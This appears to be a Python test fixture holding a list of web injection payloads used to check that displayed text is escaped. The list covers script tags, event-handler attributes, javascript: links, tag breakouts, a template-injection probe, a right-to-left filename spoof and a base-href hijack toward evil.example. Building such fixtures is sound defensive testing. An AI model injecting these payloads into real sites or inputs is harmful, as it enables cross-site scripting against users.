"""Strings that try to become markup, a script or a formula wherever they are shown."""

PAYLOADS = [
    "<script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</div></details></table><img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    "<!-- --><iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<math><mtext></table><mglyph><style><img src onerror=alert(1)>",
    "\x00<scr\x00ipt>alert(1)</script>",
    "\u202e<b>gnp.exe\u2066",
    "{{7*7}}${alert(1)}<details open ontoggle=alert(1)>",
    "<base href=//evil.example><form><button formaction=javascript:alert(1)>",
    "$\\href{javascript:alert(1)}{x^2}$ and \\(x_3\\)",
    "![x](x) [x](javascript:alert(1)) **bold**",
]
